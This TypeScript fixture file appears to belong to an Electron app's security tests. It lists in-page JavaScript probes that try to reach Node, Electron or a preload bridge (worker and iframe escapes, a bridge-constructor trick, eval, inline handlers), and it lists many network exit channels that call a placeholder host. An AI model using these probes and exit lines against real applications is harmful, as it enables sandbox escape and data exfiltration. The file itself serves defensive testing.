/** What a page under an attacker's control would try, as source text that runs in the page. */

/** Each must give "no": a way to Node, to Electron or past the preload. */
export const NODE_PROBES: Readonly<Record<string, string>> = {
  require: "typeof require",
  process: "typeof process",
  module: "typeof module",
  exports: "typeof exports",
  Buffer: "typeof Buffer",
  global: "typeof global",
  setImmediate: "typeof setImmediate",
  dirname: "typeof __dirname",
  electron: "typeof electron",
  ipcRenderer: "typeof ipcRenderer",
  "window.require": "typeof window.require",
  "window.electron": "typeof window.electron",
  "window.opener": "window.opener === null ? 'undefined' : 'opener'",
  "worker process": `await new Promise((done) => {
    try {
      const code = "postMessage(typeof process + typeof require)";
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      worker.onmessage = (event) => done(event.data === "undefinedundefined" ? "undefined" : "node");
      worker.onerror = () => done("undefined");
      setTimeout(() => done("undefined"), 500);
    } catch { done("undefined"); }
  })`,
  "frame process": `(() => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    const found = typeof frame.contentWindow?.process + typeof frame.contentWindow?.require;
    const bridge = typeof frame.contentWindow?.workbench;
    frame.remove();
    return found === "undefinedundefined" && bridge === "undefined" ? "undefined" : "node";
  })()`,
  "constructor of the bridge": `await new Promise((done) => setTimeout(() => {
    try { done(window.workbench.runs.list.constructor("return typeof process")()); }
    catch { done("undefined"); }
  }))`,
  // In a turn of its own: what a debugger evaluates may use eval, what the page runs may not.
  eval: `await new Promise((done) => setTimeout(() => {
    try { done(eval("1") && "eval"); } catch { done("undefined"); }
  }))`,
  Function: `await new Promise((done) => setTimeout(() => {
    try { done(new Function("return 1")() && "made"); } catch { done("undefined"); }
  }))`,
  "text timer": `await new Promise((done) => {
    window.ran = false;
    try { setTimeout("window.ran = true", 0); } catch {}
    setTimeout(() => done(window.ran ? "ran" : "undefined"), 100);
  })`,
  WebAssembly: `(() => {
    try { new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); return "compiled"; }
    catch { return "undefined"; }
  })()`,
  "inline script": `(() => {
    window.ran = false;
    const script = document.createElement("script");
    script.textContent = "window.ran = true";
    document.head.append(script);
    script.remove();
    return window.ran ? "ran" : "undefined";
  })()`,
  "inline handler": `await new Promise((done) => {
    window.ran = false;
    const image = document.createElement("img");
    image.setAttribute("onerror", "window.ran = true");
    image.src = "data:image/png;base64,nonsense";
    document.body.append(image);
    setTimeout(() => { image.remove(); done(window.ran ? "ran" : "undefined"); }, 200);
  })`,
  "javascript: link": `(() => {
    window.ran = false;
    const link = document.createElement("a");
    link.href = "javascript:window.ran = true";
    document.body.append(link);
    link.click();
    link.remove();
    return window.ran ? "ran" : "undefined";
  })()`,
};

/** Ways out of the page; each gives nothing back and must send nothing. HOST is an address. */
export const EXITS: Readonly<Record<string, string>> = {
  fetch: "await fetch('http://HOST/').catch(() => {})",
  "fetch by name": "await fetch('https://exit.example.org/').catch(() => {})",
  XMLHttpRequest: "const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/'); x.send()",
  WebSocket: "new WebSocket('ws://HOST/')",
  sendBeacon: "navigator.sendBeacon('http://HOST/', 'note')",
  EventSource: "new EventSource('http://HOST/')",
  image: "new Image().src = 'http://HOST/x.png'",
  "style sheet": "add('link', { rel: 'stylesheet', href: 'http://HOST/x.css' })",
  prefetch: "add('link', { rel: 'prefetch', href: 'http://HOST/x' })",
  preconnect: "add('link', { rel: 'preconnect', href: 'http://HOST/' })",
  "dns-prefetch": "add('link', { rel: 'dns-prefetch', href: '//exit.example.org' })",
  "module import": "await import('http://HOST/x.js').catch(() => {})",
  script: "add('script', { src: 'http://HOST/x.js' })",
  frame: "add('iframe', { src: 'http://HOST/' })",
  object: "add('object', { data: 'http://HOST/x' })",
  video: "add('video', { src: 'http://HOST/x.mp4', autoplay: true })",
  font: "new FontFace('x', 'url(http://HOST/x.woff2)').load().catch(() => {})",
  form: "const f = add('form', { action: 'http://HOST/', method: 'post' }); f.submit()",
  "window.open": "window.open('http://HOST/')",
  "link in a new window": "add('a', { href: 'http://HOST/', target: '_blank' }).click()",
  ping: "add('a', { href: '#/', ping: 'http://HOST/' }).click()",
  download: "add('a', { href: 'http://HOST/x', download: 'x' }).click()",
  navigation: "location.href = 'http://HOST/'",
  "service worker": "await navigator.serviceWorker?.register('/x.js').catch(() => {})",
  "meta refresh": "add('meta', { httpEquiv: 'refresh', content: '0; url=http://HOST/' })",
  WebTransport: "new WebTransport('https://HOST/')",
  "outside program": "location.href = 'smb://HOST/share'",
};

export const ADD_ELEMENT = `const add = (name, more) => {
  const element = Object.assign(document.createElement(name), more);
  document.body.append(element);
  return element;
};`;
